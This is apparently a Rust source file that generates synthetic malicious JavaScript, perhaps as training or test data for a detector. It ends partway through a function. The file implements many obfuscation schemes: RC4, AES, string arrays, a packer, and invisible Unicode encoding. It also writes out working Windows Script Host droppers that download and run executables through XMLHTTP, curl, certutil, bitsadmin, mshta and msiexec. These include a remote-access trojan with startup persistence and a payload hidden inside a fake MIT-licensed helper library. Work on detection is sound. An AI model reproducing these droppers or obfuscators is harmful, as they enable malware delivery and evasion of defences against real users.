//! JavaScript: what obfuscators of the language make, and droppers for the Windows Script Host.

use super::super::{base64, codes, each, gzip, hex, keyed, put, quoted, rc4, reversed, xored};
use super::cipher::{aes_cbc, bytes};
use super::node;
use super::{Dice, Truth, agent, alphabet, listed, mark, mixed, places, plain, prose, veiled};
use std::fmt::Write;

/// An expression whose value is `text`; lines before it go to `before`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    if dice.chance(40) { modern(dice, text, before) } else { old(dice, text, before) }
}

/// Ways that the Windows Script Host understands as well.
fn old(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (name, value, at, out) = (veiled(dice), veiled(dice), veiled(dice), veiled(dice));
    let names = [
        ("NAME", name.as_str()),
        ("VALUE", value.as_str()),
        ("AT", at.as_str()),
        ("OUT", out.as_str()),
    ];
    match dice.below(16) {
        0 => match dice.below(3) {
            0 => format!("String.fromCharCode({})", codes(text.bytes(), ",")),
            1 => {
                format!("String[\"fromCharCode\"]({})", each(text, ", ", |it| format!("0x{it:x}")))
            }
            _ => {
                let by = 2 + dice.below(700) as u32;
                format!(
                    "String.fromCharCode({})",
                    each(text, ",", |it| format!("{}-{by}", u32::from(it) + by))
                )
            }
        },
        1 => format!("'{}'.split('').reverse().join('')", reversed(text)),
        2 => {
            let mark = mark(dice, text, &["#", "ZX", "_K_", "@", "~", "!!", "QW%"]);
            let littered = dice.littered(text, &mark);
            if dice.chance(50) {
                format!("'{littered}'.replace(/{mark}/g, '')")
            } else {
                format!("'{littered}'.split('{mark}').join('')")
            }
        }
        3 => string_array(dice, text, before),
        4 => match dice.below(3) {
            0 => format!("unescape('{}')", each(text, "", |it| format!("%{it:02x}"))),
            1 => format!("decodeURIComponent(\"{}\")", each(text, "", |it| format!("%{it:02X}"))),
            _ => format!("unescape(\"{}\")", each(text, "", |it| format!("%u{it:04x}"))),
        },
        5 => {
            let form = dice.below(3);
            let body: String = text
                .bytes()
                .map(|it| match form {
                    0 => format!("\\x{it:02x}"),
                    1 => format!("\\u{it:04x}"),
                    _ if it.is_ascii_alphabetic() => format!("\\{it:o}"),
                    _ => char::from(it).to_string(),
                })
                .collect();
            // A digit behind an octal escape would belong to it, were it shorter than three digits.
            format!("\"{body}\"")
        }
        6 => text
            .bytes()
            .map(|it| match it {
                b'a'..=b'z' => format!("({}).toString(36)", it - b'a' + 10),
                b'0'..=b'9' => format!("({}).toString(36)", it - b'0'),
                _ => format!("'{}'", char::from(it)),
            })
            .collect::<Vec<_>>()
            .join("+"),
        7 => coerced(text),
        8 if plain(text) => {
            let letters = alphabet(dice);
            let _ = writeln!(before, "var {name} = \"{letters}\";");
            if dice.chance(50) {
                let list: Vec<String> = places(text, &letters)
                    .iter()
                    .map(|it| format!("{name}.charAt({it})"))
                    .collect();
                list.join(" + ")
            } else {
                let _ = writeln!(
                    before,
                    "var {out} = '';\nvar {value} = [{}];\nfor (var {at} = 0; {at} < {value}.length; {at}++) {{ {out} += {name}.substr({value}[{at}], 1); }}",
                    listed(places(text, &letters), ", ")
                );
                out
            }
        }
        9 => {
            // GootLoader: letters are put in front and behind by turns.
            let mut letters: Vec<char> = Vec::new();
            let mut list: std::collections::VecDeque<char> = text.chars().collect();
            // What was put on last is taken off first.
            for at in (0..text.len()).rev() {
                letters.extend(if at % 2 == 0 { list.pop_front() } else { list.pop_back() });
            }
            let shuffled: String = letters.iter().rev().collect();
            before.push_str(&put(
                "function @NAME@(@VALUE@) {\n  @OUT@ = '';\n  @AT@ = 0;\n  while (@AT@ < @VALUE@.length) {\n    if (@AT@ % 2) { @OUT@ = @OUT@ + @VALUE@.charAt(@AT@); } else { @OUT@ = @VALUE@.charAt(@AT@) + @OUT@; }\n    @AT@++;\n  }\n  return @OUT@;\n}\n",
                &names,
            ));
            format!("{name}('{shuffled}')")
        }
        10 => {
            before.push_str(&put(
                "function @NAME@(@VALUE@) {\n  var k = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';\n  var @OUT@ = '', @AT@ = 0, a, b, c, d;\n  @VALUE@ = @VALUE@.replace(/[^A-Za-z0-9\\+\\/\\=]/g, '');\n  while (@AT@ < @VALUE@.length) {\n    a = k.indexOf(@VALUE@.charAt(@AT@++)); b = k.indexOf(@VALUE@.charAt(@AT@++));\n    c = k.indexOf(@VALUE@.charAt(@AT@++)); d = k.indexOf(@VALUE@.charAt(@AT@++));\n    @OUT@ += String.fromCharCode((a << 2) | (b >> 4));\n    if (c != 64) { @OUT@ += String.fromCharCode(((b & 15) << 4) | (c >> 2)); }\n    if (d != 64) { @OUT@ += String.fromCharCode(((c & 3) << 6) | d); }\n  }\n  return @OUT@;\n}\n",
                &names,
            ));
            format!("{name}('{}')", base64(text.as_bytes()))
        }
        11 => {
            before.push_str(&put(
                "var @NAME@ = function (@VALUE@) {\n  for (var @OUT@ = '', @AT@ = 0; @AT@ < @VALUE@.length; @AT@ += 2) {\n    @OUT@ += String.fromCharCode(parseInt(@VALUE@.substr(@AT@, 2), 16));\n  }\n  return @OUT@;\n};\n",
                &names,
            ));
            format!("{name}('{}')", hex(text.as_bytes()))
        }
        12 => {
            let word = dice.name();
            let list = codes(keyed(text, &word), ",");
            before.push_str(&put(
                "function @NAME@(@VALUE@, k) {\n  var @OUT@ = [];\n  for (var @AT@ = 0; @AT@ < @VALUE@.length; @AT@++) {\n    @OUT@.push(String.fromCharCode(@VALUE@[@AT@] ^ k.charCodeAt(@AT@ % k.length)));\n  }\n  return @OUT@.join('');\n}\n",
                &names,
            ));
            format!("{name}([{list}], '{word}')")
        }
        13 => {
            let word = dice.name();
            before.push_str(&put(
                "function @NAME@(@VALUE@, k) {\n  var s = [], j = 0, x, @OUT@ = '', i;\n  for (i = 0; i < 256; i++) { s[i] = i; }\n  for (i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; }\n  i = 0; j = 0;\n  for (var @AT@ = 0; @AT@ < @VALUE@.length; @AT@ += 2) {\n    i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x;\n    @OUT@ += String.fromCharCode(parseInt(@VALUE@.substr(@AT@, 2), 16) ^ s[(s[i] + s[j]) % 256]);\n  }\n  return @OUT@;\n}\n",
                &names,
            ));
            format!("{name}('{}', '{word}')", hex(&rc4(text.as_bytes(), &word)))
        }
        14 => {
            let pieces = quoted(&dice.pieces(text), '"');
            match dice.below(4) {
                0 => format!("\"\".concat({})", pieces.join(", ")),
                1 => format!("[{}].join(\"\")", pieces.join(",")),
                2 => pieces
                    .iter()
                    .map(|it| format!("{it}/*{}*/", prose(dice, 3)))
                    .collect::<Vec<_>>()
                    .join("+"),
                _ => {
                    let _ = writeln!(before, "var {name} = {{}};");
                    let keys: Vec<String> = pieces.iter().map(|_| mixed(dice, 4)).collect();
                    for at in dice.order(pieces.len()) {
                        let _ = writeln!(before, "{name}['{}'] = {};", keys[at], pieces[at]);
                    }
                    keys.iter().map(|it| format!("{name}.{it}")).collect::<Vec<_>>().join(" + ")
                }
            }
        }
        _ => {
            // Dean Edwards' packer, about a value.
            let _ = writeln!(before, "var {out};\n{};", packer(dice, &format!("{out}='{text}';")));
            out
        }
    }
}

/// Ways of node.
fn modern(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (name, other) = (veiled(dice), veiled(dice));
    match dice.below(13) {
        0 => format!("Buffer.from('{}', 'base64').toString()", base64(text.as_bytes())),
        1 => format!("Buffer.from(\"{}\", \"hex\").toString('utf8')", hex(text.as_bytes())),
        2 => format!("atob('{}')", base64(text.as_bytes())),
        3 => {
            let key = dice.key();
            format!(
                "[{}].map({name} => String.fromCharCode({name} ^ {key})).join('')",
                codes(xored(text, key), ",")
            )
        }
        4 => {
            // BeaverTail: a letter stands before the Base64.
            let letter = dice.pick(&["Z", "s", "q", "b", "M"]);
            let _ = writeln!(
                before,
                "const {name} = s => (s1 = s.slice(1), Buffer.from(s1, 'base64').toString('utf8'));"
            );
            format!("{name}(\"{letter}{}\")", base64(text.as_bytes()))
        }
        5 => {
            let (key, start) = (bytes(dice, 32), bytes(dice, 16));
            let packed = hex(&aes_cbc(text.as_bytes(), &key, &start));
            let _ = writeln!(
                before,
                "const {name} = require('crypto').createDecipheriv('aes-256-cbc', Buffer.from('{}', 'hex'), Buffer.from('{}', 'hex'));\nlet {other} = {name}.update('{packed}', 'hex', 'utf8');\n{other} += {name}.final('utf8');",
                hex(&key),
                hex(&start)
            );
            other
        }
        6 => {
            let _ = writeln!(
                before,
                "const {name} = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);"
            );
            format!("Buffer.from({name}(`{}`)).toString('utf-8')", invisible(text.as_bytes()))
        }
        7 => format!(
            "require('zlib').gunzipSync(Buffer.from('{}', 'base64')).toString()",
            base64(&gzip(text.as_bytes()))
        ),
        8 => format!("new TextDecoder().decode(new Uint8Array([{}]))", codes(text.bytes(), ", ")),
        9 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| veiled(dice)).collect();
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "const {} = `{}`;", names[at], pieces[at]);
            }
            format!("`{}`", names.iter().map(|it| format!("${{{it}}}")).collect::<String>())
        }
        10 => {
            let _ = writeln!(
                before,
                "const {name} = ({other}) => Buffer.from({other}.split('').reverse().join(''), 'base64').toString('utf8');"
            );
            format!("{name}('{}')", reversed(&base64(text.as_bytes())))
        }
        11 => {
            let by = 1 + dice.below(10) as u8;
            let turned: String = text
                .bytes()
                .map(|it| char::from(it - by))
                .map(|it| if it == '\'' || it == '\\' { format!("\\{it}") } else { it.to_string() })
                .collect();
            format!(
                "[...'{turned}'].map({name} => String.fromCharCode({name}.charCodeAt(0) + {by})).join('')"
            )
        }
        _ => {
            let half = text.len() / 2;
            let _ = writeln!(
                before,
                "const {name} = ['{}', '{}'];\nconst {other} = {name}.reverse().map(p => Buffer.from(p, 'base64').toString()).join('');",
                base64(&text.as_bytes()[half..]),
                base64(&text.as_bytes()[..half])
            );
            other
        }
    }
}

/// Bytes as selectors of variants, which editors do not show.
pub(super) fn invisible(bytes: &[u8]) -> String {
    bytes
        .iter()
        .filter_map(|byte| {
            let byte = u32::from(*byte);
            char::from_u32(if byte < 16 { 0xFE00 + byte } else { 0xE0100 + byte - 16 })
        })
        .collect()
}

/// obfuscator.io: an array that is turned until a sum is right, and a function that reads it.
fn string_array(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let mut pieces = dice.pieces(text);
    let count = pieces.len();
    let numbers: Vec<usize> = (0..4).map(|_| 100 + dice.below(999_999)).collect();
    for number in &numbers {
        pieces.push(format!("{number}{}", mixed(dice, 6)));
    }
    for _ in 0..dice.below(4) {
        pieces.push(mixed(dice, 5));
    }
    // Where each piece stands when the array is turned right.
    let order = dice.order(pieces.len());
    let place = |at: usize| order.iter().position(|it| *it == at).unwrap_or_default();
    let offset = 0x64 + dice.below(0x150);
    let (list, get, at) = (veiled(dice), veiled(dice), veiled(dice));
    let index = |at: usize| format!("0x{:x}", place(at) + offset);
    let by = 1 + dice.below(order.len() - 1);
    let mut written: Vec<String> = order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
    written.rotate_right(by);
    let written = written.join(", ");
    if dice.chance(35) {
        // The older form tells how often it is turned.
        before.push_str(&put(
            "var @LIST@ = [@WRITTEN@];\n(function (a, n) {\n  var f = function (m) { while (--m) { a['push'](a['shift']()); } };\n  f(++n);\n}(@LIST@, 0x@BY@));\nvar @GET@ = function (@AT@, unused) {\n  @AT@ = @AT@ - 0x@OFFSET@;\n  var v = @LIST@[@AT@];\n  return v;\n};\n",
            &[
                ("LIST", &list),
                ("WRITTEN", &written),
                ("BY", &format!("{by:x}")),
                ("GET", &get),
                ("AT", &at),
                ("OFFSET", &format!("{offset:x}")),
            ],
        ));
    } else {
        let sum: usize = numbers[0] + numbers[1] * 2 + numbers[3] * 4;
        let wanted = sum as i64 - numbers[2] as i64 * 3;
        let term =
            |number: usize, by: usize| format!("parseInt(g({})) * 0x{by:x}", index(count + number));
        before.push_str(&put(
            "(function (f, n) {\n  var g = @GET@, a = f();\n  while (!![]) {\n    try {\n      var s = @ONE@ + @TWO@ + -@THREE@ + @FOUR@;\n      if (s === n) break; else a['push'](a['shift']());\n    } catch (e) {\n      a['push'](a['shift']());\n    }\n  }\n}(@LIST@, @WANTED@));\nfunction @GET@(@AT@, unused) {\n  var l = @LIST@();\n  @GET@ = function (i, k) {\n    i = i - 0x@OFFSET@;\n    var v = l[i];\n    return v;\n  };\n  return @GET@(@AT@, unused);\n}\nfunction @LIST@() {\n  var w = [@WRITTEN@];\n  @LIST@ = function () { return w; };\n  return @LIST@();\n}\n",
            &[
                ("ONE", &term(0, 1)),
                ("TWO", &term(1, 2)),
                ("THREE", &term(2, 3)),
                ("FOUR", &term(3, 4)),
                ("WANTED", &wanted.to_string()),
                ("GET", &get),
                ("AT", &at),
                ("OFFSET", &format!("{offset:x}")),
                ("WRITTEN", &written),
                ("LIST", &list),
            ],
        ));
    }
    (0..count).map(|at| format!("{get}({})", index(at))).collect::<Vec<_>>().join(" + ")
}

/// Letters of the names of values, as JSFuck has them; those that no name has are told.
fn coerced(text: &str) -> String {
    let known = [
        ("(![]+[])", "false"),
        ("(!![]+[])", "true"),
        ("([][[]]+[])", "undefined"),
        ("([]+{})", "[object Object]"),
        ("(+{}+[])", "NaN"),
        ("(1/0+[])", "Infinity"),
    ];
    let numbers = ["+[]", "+!![]", "!![]+!![]", "!![]+!![]+!![]", "!![]+!![]+!![]+!![]"];
    let mut parts = Vec::new();
    for letter in text.chars() {
        let found = known.iter().find_map(|(form, word)| Some((form, word.find(letter)?)));
        parts.push(match found {
            Some((form, at)) if at < numbers.len() => format!("{form}[{}]", numbers[at]),
            Some((form, at)) => format!("{form}[{at}]"),
            None => format!("'{letter}'"),
        });
    }
    // The first is a text, or numbers might be added.
    format!("([]+{})", parts.join("+"))
}

/// Dean Edwards' packer, as it is known: words are numbers of the base 36 or 62.
fn packer(dice: &mut Dice, script: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    let mut tokens: Vec<Result<String, char>> = Vec::new();
    let mut word = String::new();
    for letter in script.chars().chain(['\n']) {
        if letter.is_ascii_alphanumeric() || letter == '_' {
            word.push(letter);
            continue;
        }
        if !word.is_empty() {
            if !words.contains(&word) {
                words.push(word.clone());
            }
            tokens.push(Ok(std::mem::take(&mut word)));
        }
        tokens.push(Err(letter));
    }
    tokens.pop();
    let order = dice.order(words.len());
    let place = |word: &str| order.iter().position(|at| words[*at] == word).unwrap_or_default();
    let digit = |number: usize| match number {
        0..10 => char::from(b'0' + number as u8),
        10..36 => char::from(b'a' + (number - 10) as u8),
        _ => char::from(b'A' + (number - 36) as u8),
    };
    let numeral = |number: usize| {
        if number < 62 {
            digit(number).to_string()
        } else {
            format!("{}{}", digit(number / 62), digit(number % 62))
        }
    };
    let mut body = String::new();
    for token in tokens {
        match token {
            Ok(word) => body.push_str(&numeral(place(&word))),
            Err('\'') => body.push_str("\\'"),
            Err('\\') => body.push_str("\\\\"),
            Err('\n') => body.push_str("\\n"),
            Err(letter) => body.push(letter),
        }
    }
    let list: Vec<String> = order.iter().map(|at| words[*at].clone()).collect();
    format!(
        "eval(function(p,a,c,k,e,d){{e=function(c){{return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))}};if(!''.replace(/^/,String)){{while(c--){{d[e(c)]=k[c]||e(c)}}k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{body}',62,{},'{}'.split('|'),0,{{}}))",
        list.len(),
        list.join("|")
    )
}

/// Comments and values that nothing is made of.
pub(super) fn junk(dice: &mut Dice) -> String {
    let mut out = String::new();
    for _ in 0..dice.below(6) {
        let (name, number) = (veiled(dice), dice.below(9000));
        let words = 3 + dice.below(12);
        let text = prose(dice, words);
        let _ = match dice.below(6) {
            0 => writeln!(out, "// {text}"),
            1 => writeln!(out, "/* {text} */"),
            2 => writeln!(out, "var {name} = {number};"),
            3 => writeln!(out, "var {name} = '{text}'.split(' ');"),
            4 => writeln!(out, "function {name}(a, b) {{ return a * {number} + b; }}"),
            _ => writeln!(out, "if ({number} > {}) {{ var {name} = 'no'; }}", number + 1),
        };
    }
    out
}

pub(super) fn address(dice: &mut Dice, url: &str, before: &mut String, node: bool) -> String {
    let word = match dice.below(10) {
        0 => format!("'{url}'"),
        1..5 if node => modern(dice, url, before),
        _ => old(dice, url, before),
    };
    before.push_str(&junk(dice));
    if dice.chance(60) {
        let name = veiled(dice);
        let _ = writeln!(before, "var {name} = {word};");
        name
    } else {
        format!("({word})")
    }
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(21) {
        0 => saved(dice, truth),
        1 => update(dice, truth),
        2 => shell(dice, truth),
        3 => installer(dice, truth),
        4 => own_comments(dice, truth),
        5 => worm(dice, truth),
        6 => packed(dice, truth),
        7 => buried(dice, truth),
        8 => several(dice, truth),
        9 => to_powershell(dice, truth),
        10 => node::get(dice, truth),
        11 => node::module(dice, truth),
        12 => node::process(dice, truth),
        13 => node::socket(dice, truth),
        14 => node::environment(dice, truth),
        15 => node::layers(dice, truth),
        16 => node::interview(dice, truth),
        17 => node::web_socket(dice, truth),
        18 => node::request(dice, truth),
        19 => node::contract(dice, truth),
        _ => node::unseen(dice, truth),
    }
}

/// A name of an object of Windows.
fn object(dice: &mut Dice, name: &str, before: &mut String) -> String {
    if dice.chance(40) { old(dice, name, before) } else { format!("\"{name}\"") }
}

fn request(dice: &mut Dice) -> &'static str {
    super::dice_static(
        dice,
        &[
            "MSXML2.XMLHTTP",
            "WinHttp.WinHttpRequest.5.1",
            "MSXML2.ServerXMLHTTP.6.0",
            "Microsoft.XMLHTTP",
        ],
    )
}

/// XMLHTTP, Stream, Shell.
fn saved(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &[".exe", ".dll", "", ".png"]);
    let word = address(dice, &url, &mut out, false);
    let http = request(dice);
    let http = object(dice, http, &mut out);
    let stream = object(dice, "ADODB.Stream", &mut out);
    let shell = object(dice, "WScript.Shell", &mut out);
    let file = dice.name();
    let form = dice.pick(&[
        "var h = new ActiveXObject(@HTTP@);\nh.open('GET', @URL@, false);\nh.send();\nif (h.status == 200) {\n  var s = new ActiveXObject(@STREAM@);\n  s.Open();\n  s.Type = 1;\n  s.Write(h.ResponseBody);\n  s.Position = 0;\n  var w = new ActiveXObject(@SHELL@);\n  var p = w.ExpandEnvironmentStrings('%TEMP%') + '\\\\@FILE@.exe';\n  s.SaveToFile(p, 2);\n  s.Close();\n  w.Run(p, 0, false);\n}\n",
        "(function () {\n  try {\n    var w = WScript[\"CreateObject\"](@SHELL@), h = WScript[\"CreateObject\"](@HTTP@);\n    h[\"open\"](\"GET\", @URL@, 0);\n    h[\"setRequestHeader\"](\"User-Agent\", \"@AGENT@\");\n    h[\"send\"]();\n    var s = WScript[\"CreateObject\"](@STREAM@);\n    with (s) { Open(); Type = 1; Write(h[\"responseBody\"]); SaveToFile(w[\"ExpandEnvironmentStrings\"](\"%APPDATA%\") + \"\\\\@FILE@.dll\", 2); Close(); }\n    w[\"Run\"](\"rundll32 %APPDATA%\\\\@FILE@.dll,Start\", 0);\n  } catch (e) {}\n})();\n",
        "function @FILE@(u, p) {\n  var h = new ActiveXObject(@HTTP@);\n  h.open('GET', u, false);\n  h.send();\n  var s = new ActiveXObject(@STREAM@);\n  s.type = 1; s.open(); s.write(h.responseBody); s.saveToFile(p, 2); s.close();\n  return p;\n}\nnew ActiveXObject(@SHELL@).Run('\"' + @FILE@(@URL@, new ActiveXObject('Scripting.FileSystemObject').GetSpecialFolder(2) + '\\\\@FILE@.exe') + '\"', 1);\n",
    ]);
    out + &put(
        form,
        &[
            ("HTTP", &http),
            ("URL", &word),
            ("STREAM", &stream),
            ("SHELL", &shell),
            ("FILE", &file),
            ("AGENT", agent(dice)),
        ],
    )
}

/// SocGholish: what the server sends is evaluated.
fn update(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", "/updateResource", ".png"]);
    let word = address(dice, &url, &mut out, false);
    let http = request(dice);
    let http = object(dice, http, &mut out);
    let (name, id) = (veiled(dice), base64(dice.name().as_bytes()));
    let form = dice.pick(&[
        "var @NAME@ = new ActiveXObject(@HTTP@);\n@NAME@.open('POST', @URL@, false);\n@NAME@.send('@ID@');\neval(@NAME@.responseText);\n",
        "function @NAME@(b) {\n  var q = new ActiveXObject(@HTTP@);\n  q.open(\"POST\", @URL@, false);\n  q.setRequestHeader(\"Upgrade-Insecure-Requests\", \"1\");\n  q.send(b);\n  return q.responseText;\n}\nvar r = @NAME@(\"@ID@\");\nthis['eval'](r);\n",
        "try {\n  var @NAME@ = this['Act' + 'iveXOb' + 'ject'];\n  var q = new @NAME@(@HTTP@);\n  q['op' + 'en']('GET', @URL@, !1);\n  q['se' + 'nd']();\n  new Function(q['respon' + 'seText'])();\n} catch (e) { WScript.Quit(); }\n",
    ]);
    out + &put(form, &[("NAME", &name), ("HTTP", &http), ("URL", &word), ("ID", &id)])
}

/// Programs of Windows that fetch.
fn shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &[".exe", "", ".dll", ".dat"]);
    let word = address(dice, &url, &mut out, false);
    let shell = object(dice, "WScript.Shell", &mut out);
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
        "var @NAME@ = new ActiveXObject(@SHELL@);\n@NAME@.Run('cmd /c curl -k -o %APPDATA%\\\\@FILE@.dll ' + @URL@ + ' & rundll32 %APPDATA%\\\\@FILE@.dll,Enter', 0, false);\n",
        "WScript.CreateObject(@SHELL@).Exec(\"cmd.exe /c mkdir %TEMP%\\\\@FILE@ & curl \" + @URL@ + \" --output %TEMP%\\\\@FILE@\\\\a.exe & start %TEMP%\\\\@FILE@\\\\a.exe\");\n",
        "new ActiveXObject(@SHELL@).Run(\"mshta \" + @URL@, 0);\n",
        "var @NAME@ = new ActiveXObject('Shell.Application');\n@NAME@.ShellExecute('cmd.exe', '/c certutil -urlcache -split -f ' + @URL@ + ' %TEMP%\\\\@FILE@.exe && %TEMP%\\\\@FILE@.exe', '', 'open', 0);\n",
        "var @NAME@ = GetObject('winmgmts:Win32_Process');\n@NAME@.Create('bitsadmin /transfer @FILE@ ' + @URL@ + ' C:\\\\Users\\\\Public\\\\@FILE@.exe', null, null, 0);\n",
    ]);
    out + &put(form, &[("NAME", &name), ("SHELL", &shell), ("FILE", &file), ("URL", &word)])
}

/// Latrodectus: through the installer.
fn installer(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &[".msi", ""]);
    let word = address(dice, &url, &mut out, false);
    let name = veiled(dice);
    let form = dice.pick(&[
        "var @NAME@ = new ActiveXObject(\"WindowsInstaller.Installer\");\n@NAME@.UILevel = 2;\n@NAME@.InstallProduct(@URL@);\n",
        "var @NAME@ = new ActiveXObject(\"WScript.Shell\");\n@NAME@.Run(\"msiexec.exe /i \" + @URL@ + \" /qn\", 0, true);\n",
        "function @NAME@(u) {\n  var i = new ActiveXObject('WindowsInstaller.Installer');\n  i.UILevel = 2;\n  try { i.InstallProduct(u, 'ACTION=INSTALL'); } catch (e) { WScript.Echo(e.message); }\n}\n@NAME@(@URL@);\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word)])
}

/// The script reads its own comments and runs what stands in them.
fn own_comments(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = if dice.chance(50) { installer(dice, truth) } else { update(dice, truth) };
    let mut out = String::new();
    let name = veiled(dice);
    for line in inner.lines() {
        let words = 5 + dice.below(12);
        for _ in 0..dice.below(3) {
            let _ = writeln!(out, "// {}", prose(dice, words));
        }
        let _ = writeln!(out, "////{line}");
    }
    out.push_str(&put(
        "var @NAME@ = new ActiveXObject(\"Scripting.FileSystemObject\");\nvar f = @NAME@.OpenTextFile(WScript.ScriptFullName, 1);\nvar c = '';\nwhile (!f.AtEndOfStream) {\n  var l = f.ReadLine();\n  if (l.substr(0, 4) === '////') { c += l.substr(4) + '\\n'; }\n}\nf.Close();\nnew Function(c)();\n",
        &[("NAME", &name)],
    ));
    out
}

/// WSHRAT.
fn worm(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let word = dice.pick(&["is-ready", "Vre", "moz-sdk"]);
    truth.joined(&format!("http://{host}:{port}"), &format!("/{word}"));
    let mut out = junk(dice);
    let host = old(dice, &host, &mut out);
    out + &put(
        "var host = @HOST@;\nvar port = @PORT@;\nvar sh = WScript.CreateObject(\"WScript.Shell\");\nvar fs = WScript.CreateObject(\"Scripting.FileSystemObject\");\nvar spliter = \"|\";\nfunction post(cmd, param) {\n  try {\n    var http = WScript.CreateObject(\"MSXML2.XMLHTTP\");\n    http.open(\"POST\", \"http://\" + host + \":\" + port + \"/\" + cmd, false);\n    http.setRequestHeader(\"User-Agent:\", info());\n    http.send(param);\n    return http.responseText;\n  } catch (e) { return ''; }\n}\nfunction info() {\n  return \"WSHRAT\" + spliter + sh.ExpandEnvironmentStrings(\"%COMPUTERNAME%\") + spliter + sh.ExpandEnvironmentStrings(\"%USERNAME%\");\n}\ntry { fs.CopyFile(WScript.ScriptFullName, sh.SpecialFolders(\"Startup\") + \"\\\\\" + WScript.ScriptName, true); } catch (e) {}\nwhile (true) {\n  var r = post(\"@WORD@\", \"\").split(spliter);\n  switch (r[0]) {\n    case \"disconnect\": WScript.Quit(); break;\n    case \"execute\": eval(r[1]); break;\n  }\n  WScript.Sleep(5000);\n}\n",
        &[("HOST", &host), ("PORT", &port.to_string()), ("WORD", word)],
    )
}

/// All of it in the packer, or in layers of `eval`.
fn packed(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = match dice.below(3) {
        0 => shell(dice, truth),
        1 => update(dice, truth),
        _ => saved(dice, truth),
    };
    let name = veiled(dice);
    match dice.below(4) {
        0 => packer(dice, &inner) + "\n",
        1 => format!("eval(unescape('{}'));\n", each(&inner, "", |it| format!("%{it:02X}"))),
        2 => {
            let key = dice.key();
            format!(
                "var {name} = [{}];\nvar o = '';\nfor (var i = 0; i < {name}.length; i++) o += String.fromCharCode({name}[i] ^ {key});\nnew Function(o)();\n",
                codes(xored(&inner, key), ",")
            )
        }
        _ => {
            let lines: String = super::lines(&hex(inner.as_bytes()), 120)
                .iter()
                .map(|it| format!("{name} += '{it}';\n"))
                .collect();
            format!(
                "var {name} = '';\n{lines}eval({name}.replace(/../g, function (h) {{ return String.fromCharCode(parseInt(h, 16)); }}));\n"
            )
        }
    }
}

/// GootLoader: a few lines within a library that others wrote.
fn buried(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = if dice.chance(50) { update(dice, truth) } else { to_powershell(dice, truth) };
    let mut out = String::from(
        "/*!\n * Underscore-like helpers v1.13.6\n * (c) 2009-2022 the authors\n * Distributed under the MIT license.\n */\n",
    );
    let helpers = [
        "function isObject(obj) {\n  var type = typeof obj;\n  return type === 'function' || (type === 'object' && !!obj);\n}\n",
        "function isUndefined(obj) {\n  return obj === void 0;\n}\n",
        "function range(start, stop, step) {\n  if (stop == null) { stop = start || 0; start = 0; }\n  if (!step) { step = stop < start ? -1 : 1; }\n  var length = Math.max(Math.ceil((stop - start) / step), 0);\n  var list = Array(length);\n  for (var idx = 0; idx < length; idx++, start += step) { list[idx] = start; }\n  return list;\n}\n",
        "function clamp(n, lo, hi) { return n < lo ? lo : n > hi ? hi : n; }\n",
        "function pad(value, width) {\n  value = String(value);\n  while (value.length < width) { value = '0' + value; }\n  return value;\n}\n",
        "function debounceTime(list, wait) {\n  var total = 0;\n  for (var i = 0; i < list.length; i++) { total += list[i] % wait; }\n  return total;\n}\n",
        "function escapeHtml(s) {\n  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');\n}\n",
        "function unionOf(a, b) {\n  var seen = {}, out = [];\n  a.concat(b).forEach(function (x) { if (!seen[x]) { seen[x] = 1; out.push(x); } });\n  return out;\n}\n",
    ];
    let split = dice.below(helpers.len());
    let run = mixed(dice, 7);
    let order = dice.order(helpers.len());
    for (count, at) in order.iter().enumerate() {
        if count == split {
            let _ = write!(out, "function {run}() {{\n{inner}}}\n");
        }
        out.push_str(helpers[*at]);
        out.push_str(&junk(dice));
    }
    let _ = writeln!(out, "{run}();");
    out
}

/// Several servers, one after the other until one answers; or several files of one.
fn several(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let urls: Vec<String> =
        (0..2 + dice.below(3)).map(|_| truth.url(dice, &[".exe", "", ".jpg"])).collect();
    let list: Vec<String> = urls
        .iter()
        .map(|url| if dice.chance(60) { old(dice, url, &mut out) } else { format!("\"{url}\"") })
        .collect();
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
